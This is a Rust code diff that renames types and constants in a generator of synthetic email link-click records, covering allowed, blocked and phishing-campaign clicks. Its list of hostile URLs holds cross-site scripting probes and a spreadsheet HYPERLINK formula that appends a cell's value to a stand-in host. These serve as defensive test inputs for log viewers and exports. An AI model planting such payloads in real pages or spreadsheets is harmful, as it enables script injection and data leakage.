@@ -9,7 +9,7 @@ use crate::clock::Tick;
 
 /// One invented click.
 #[derive(Clone, Debug, Default)]
-pub(super) struct Scene {
+pub(super) struct ClickScene {
     pub url: String,
     pub action: &'static str,
     pub user: String,
@@ -24,7 +24,7 @@ pub(super) struct Scene {
     pub app: &'static str,
 }
 
-impl Scene {
+impl ClickScene {
     /// The scene as a click at `timestamp`.
     pub fn click(&self, timestamp: Tick) -> Click<'_> {
         let texts = Text::ALL.map(|text| match text {
@@ -46,11 +46,11 @@ impl Scene {
     }
 }
 
-const FIRST: [&str; 16] = [
+const FIRST_NAMES: [&str; 16] = [
     "ana", "ben", "chloe", "dmitri", "emeka", "fatima", "goran", "hana", "ivo", "jun", "katya",
     "liam", "mei", "noor", "olga", "pavel",
 ];
-const LAST: [&str; 12] = [
+const LAST_NAMES: [&str; 12] = [
     "almeida",
     "berg",
     "castillo",
@@ -64,7 +64,7 @@ const LAST: [&str; 12] = [
     "kowalski",
     "lindqvist",
 ];
-const SITES: [&str; 12] = [
+const CLEAN_SITES: [&str; 12] = [
     "intranet.northwind.example",
     "docs.partner.example",
     "travel.example",
@@ -79,7 +79,7 @@ const SITES: [&str; 12] = [
     "forum.example",
 ];
 /// Links that try to break whoever shows them.
-const HOSTILE: [&str; 12] = [
+const HOSTILE_SITES: [&str; 12] = [
     "https://xss.test/<script>alert(document.domain)</script>",
     "https://xss.test/\"><img src=x onerror=alert(1)>",
     "=HYPERLINK(\"https://formula.test/\"&A1,\"open\")",
@@ -120,7 +120,11 @@ fn user(random: &mut Rng) -> String {
     if random.u16(..) < 200 {
         return one_of(random, &HOSTILE_USERS).to_owned();
     }
-    let name = format!("{}.{}@northwind.example", one_of(random, &FIRST), one_of(random, &LAST));
+    let name = format!(
+        "{}.{}@northwind.example",
+        one_of(random, &FIRST_NAMES),
+        one_of(random, &LAST_NAMES)
+    );
     // Some mail clients send what the user typed at sign-in.
     if random.u8(..) < 5 { name.to_uppercase() } else { name }
 }
@@ -138,8 +142,8 @@ fn chain(urls: &[&str]) -> String {
 }
 
 /// An ordinary allowed click in mail on `url`.
-fn plain(random: &mut Rng, url: String) -> Scene {
-    Scene {
+fn plain(random: &mut Rng, url: String) -> ClickScene {
+    ClickScene {
         chain: chain(&[&url]),
         url,
         action: "ClickAllowed",
@@ -150,15 +154,16 @@ fn plain(random: &mut Rng, url: String) -> Scene {
         through: if random.u8(..) < 3 { None } else { Some(false) },
         report: guid(random),
         app: "Mail",
-        ..Scene::default()
+        ..ClickScene::default()
     }
 }
 
 /// A click on any ordinary day.
-pub(super) fn any(random: &mut Rng) -> Scene {
+pub(super) fn any(random: &mut Rng) -> ClickScene {
     match random.u16(..1_000) {
         0..550 => {
-            let site = SITES.get(rank(random, SITES.len())).copied().unwrap_or("news.example");
+            let site =
+                CLEAN_SITES.get(rank(random, CLEAN_SITES.len())).copied().unwrap_or("news.example");
             let url = format!("https://{site}/page/{}", rank(random, 2_000));
             plain(random, url)
         }
@@ -167,62 +172,67 @@ pub(super) fn any(random: &mut Rng) -> Scene {
         850..910 => outside_mail(random, "Office", "Word", "https://files.supplier.example/s/"),
         910..940 => outside_mail(random, "Copilot", "Copilot", "https://answers.example/cite/"),
         940..960 => junk(random),
-        960..970 => Scene { action: "ClickBlockedByTenantPolicy", ..policy(random) },
-        970..982 => Scene { action: "UrlErrorPage", ..policy(random) },
-        982..995 => Scene { action: "UrlScanInProgress", ..policy(random) },
+        960..970 => ClickScene { action: "ClickBlockedByTenantPolicy", ..policy(random) },
+        970..982 => ClickScene { action: "UrlErrorPage", ..policy(random) },
+        982..995 => ClickScene { action: "UrlScanInProgress", ..policy(random) },
         _ => {
-            let url = one_of(random, &HOSTILE).to_owned();
+            let url = one_of(random, &HOSTILE_SITES).to_owned();
             let action = one_of(random, &["ClickAllowed", "ClickBlocked"]);
-            Scene { action, ..plain(random, url) }
+            ClickScene { action, ..plain(random, url) }
         }
     }
 }
 
 /// A tracking link of a mailing that everyone got: the URL carries a token of its own.
-fn newsletter(random: &mut Rng) -> Scene {
+fn newsletter(random: &mut Rng) -> ClickScene {
     let issue = rank(random, 40);
     let token = random.u64(..);
     let target = format!("https://news.example/issue/{issue}");
     let url = format!("https://links.newsletter.example/ls/click?upn=u001.{issue:03}{token:016x}");
-    Scene { chain: chain(&[&url, &target]), ..plain(random, url) }
+    ClickScene { chain: chain(&[&url, &target]), ..plain(random, url) }
 }
 
-fn outside_mail(random: &mut Rng, workload: &'static str, app: &'static str, at: &str) -> Scene {
+fn outside_mail(
+    random: &mut Rng,
+    workload: &'static str,
+    app: &'static str,
+    at: &str,
+) -> ClickScene {
     let url = format!("{at}{}", rank(random, 300));
-    Scene { workload, app, message: String::new(), ..plain(random, url) }
+    ClickScene { workload, app, message: String::new(), ..plain(random, url) }
 }
 
-fn junk(random: &mut Rng) -> Scene {
+fn junk(random: &mut Rng) -> ClickScene {
     let url = format!("https://parcel-{}.test/track?id={}", rank(random, 30), random.u32(..));
     let threats = one_of(random, &["Phish", "Spam", "Malware", "Phish, Malware"]);
     let methods = r#"{"Phish":["URL detonation reputation"]}"#;
-    Scene { action: "ClickBlocked", threats, methods, ..plain(random, url) }
+    ClickScene { action: "ClickBlocked", threats, methods, ..plain(random, url) }
 }
 
-fn policy(random: &mut Rng) -> Scene {
+fn policy(random: &mut Rng) -> ClickScene {
     let url = format!("https://slow-{}.example/", rank(random, 50));
     plain(random, url)
 }
 
 /// A click on the campaign's link: let through at first, blocked once its nature is known.
-pub(super) fn campaign(random: &mut Rng, known: Known) -> Scene {
+pub(super) fn campaign(random: &mut Rng, known: LinkVerdict) -> ClickScene {
     let url = "https://northwind-payroll.test/login?next=%2Fbonus".to_owned();
     let landing = "https://cdn.northwind-payroll.test/s/index.html";
-    let scene = Scene { chain: chain(&[&url, landing]), ..plain(random, url) };
+    let scene = ClickScene { chain: chain(&[&url, landing]), ..plain(random, url) };
     match known {
-        Known::NotYet => scene,
-        Known::Phish => Scene { action: "ClickBlocked", ..scene.into_phish() },
+        LinkVerdict::NotYet => scene,
+        LinkVerdict::Phish => ClickScene { action: "ClickBlocked", ..scene.into_phish() },
     }
 }
 
 /// What Defender knows of a link when it is clicked.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub(super) enum Known {
+pub(super) enum LinkVerdict {
     NotYet,
     Phish,
 }
 
-impl Scene {
+impl ClickScene {
     /// The same with the verdict that came later.
     pub fn into_phish(self) -> Self {
         let methods = r#"{"Phish":["URL detonation reputation","Campaign"]}"#;
